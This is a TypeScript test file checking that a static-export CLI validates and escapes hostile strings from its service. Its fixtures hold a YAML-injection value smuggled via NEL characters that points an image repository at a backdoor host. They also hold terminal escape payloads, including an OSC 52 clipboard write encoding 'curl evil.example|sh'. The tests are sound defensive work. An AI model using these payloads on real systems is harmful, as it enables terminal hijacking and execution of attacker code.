import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { EXIT_CODES } from "../../src/static-export";
import { runExportCli as runInProcess } from "../../src/static-export/runExportCli";
import { ADMIN_KEY, inMs, job, makeArchive, sendJson, startFakeService, type FakeRoute, type FakeService } from "./fakeExportService";
import { runExportCli } from "./runCli";

let dir: string;
let service: FakeService | undefined;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "export-cli-strings-"));
});
afterEach(async () => {
  await service?.close();
  service = undefined;
  await rm(dir, { recursive: true, force: true });
});

/** Runs the CLI as a user does (output piped: plain lines), with `--chart-values`, against `route`. */
async function exportFrom(route: FakeRoute, extra: string[] = []) {
  service = await startFakeService(route);
  const args = ["--base-url", service.url, "--domain", "demo", "--out", join(dir, "site.tar.gz"), "--poll-interval", "0.01"];
  return runExportCli([...args, "--chart-values", join(dir, "values.yaml"), ...extra], ADMIN_KEY);
}

/** A whole, valid export whose bundle link says `expiresAt`. */
function linkExpiring(expiresAt: string, archive: Buffer): FakeRoute {
  return (req, res) => {
    if (req.path === "/v1/static-export/jobs") return sendJson(res, 202, job("queued"));
    if (req.path.endsWith("/bundle")) return sendJson(res, 200, { jobId: "se_test1", bundleUrl: `${service!.url}/storage/b.tar.gz`, sizeBytes: archive.length, expiresAt });
    if (req.path.startsWith("/storage/")) return void res.end(archive);
    sendJson(res, 200, job("completed", { progress: 100, pageCount: 1 }));
  };
}

describe("docs-assistant-export: values the service answers are checked before use", () => {
  it("an expiresAt carrying YAML keys after NEL (the review's case): exit 9, no chart values, no archive", async () => {
    const archive = await makeArchive({ "index.html": "<h1>Docs</h1>" });
    const hostile = `${inMs(600_000)}\u0085image:\u0085  repository: evil.example/backdoor\u0085#`;
    const { code, stdout, stderr } = await exportFrom(linkExpiring(hostile, archive));
    expect(code).toBe(EXIT_CODES.service);
    expect(stderr).toMatch(/^error: the bundle link's expiresAt is not an ISO 8601 timestamp/m);
    expect(stdout + stderr).not.toMatch(/[\u0085\u2028\u2029]/);
    expect(await readdir(dir)).toEqual([]);
  });
});

/** Line erase, a fake "saved", a clipboard write (OSC 52), a one-byte CSI, a CR and an LS. */
const ERASE_AND_LIE = "running\u001b[2K\rsaved /etc/site.tar.gz (1 bytes)";
const CLIPBOARD = "render failed\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007 \u009b31m\u2028error: fake";
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

/** A job that is retried past a 503 saying `CLIPBOARD`, reports status `ERASE_AND_LIE`, then fails with `CLIPBOARD`. */
function hostileJob(): FakeRoute {
  let polls = 0;
  return (req, res) => {
    if (req.path === "/v1/static-export/jobs") return sendJson(res, 202, job("queued"));
    polls += 1;
    if (polls === 1) return sendJson(res, 503, { error: CLIPBOARD });
    if (polls === 2) return sendJson(res, 200, job(ERASE_AND_LIE, { progress: 50 }));
    sendJson(res, 200, job("failed", { error: CLIPBOARD }));
  };
}

describe("docs-assistant-export: service strings reach the terminal without control characters", () => {
  it("plain lines: statuses, retries and errors are shown escaped", async () => {
    const { code, stdout, stderr } = await exportFrom(hostileJob());
    expect(code).toBe(EXIT_CODES.jobFailed);
    expect(stdout + stderr).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain("job se_test1 running\\x1b[2K\\x0dsaved /etc/site.tar.gz (1 bytes) 50%");
    expect(stdout).toContain("(503: render failed\\x1b]52;c;");
    expect(stderr).toContain("error: export job se_test1 failed: render failed\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07 \\x9b31m\\u2028error: fake\n");
  });

  it("--json: every line is JSON with no raw control character, and keeps the exact strings", async () => {
    const { code, stdout, stderr } = await exportFrom(hostileJob(), ["--json"]);
    expect(code).toBe(EXIT_CODES.jobFailed);
    expect(stdout + stderr).not.toMatch(RAW_CONTROL);
    const records = stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
    expect(records.find((record) => record.event === "job" && record.progress === 50)).toMatchObject({ status: ERASE_AND_LIE });
    expect(records.at(-1)).toMatchObject({ event: "error", serviceError: CLIPBOARD });
  });

  it("a terminal: the live bar carries the escaped status, and only the bar's own sequences are sent", async () => {
    service = await startFakeService(hostileJob());
    let screen = "";
    let errors = "";
    const code = await runInProcess({
      argv: ["--base-url", service.url, "--domain", "demo", "--out", join(dir, "site.tar.gz"), "--poll-interval", "0.01"],
      env: { ADMIN_API_KEY: ADMIN_KEY },
      stdout: { write: (text: string) => (screen += text), isTTY: true, columns: 200 },
      stderr: { write: (text: string) => (errors += text), isTTY: true },
    });
    expect(code).toBe(EXIT_CODES.jobFailed);
    expect(screen).toContain("running\\x1b[2K\\x0dsaved");
    expect(screen + errors).not.toMatch(/\u001b\]|\u0007|\u009b|\rsaved|\u2028/);
    expect(errors).not.toMatch(RAW_CONTROL);
  });
});
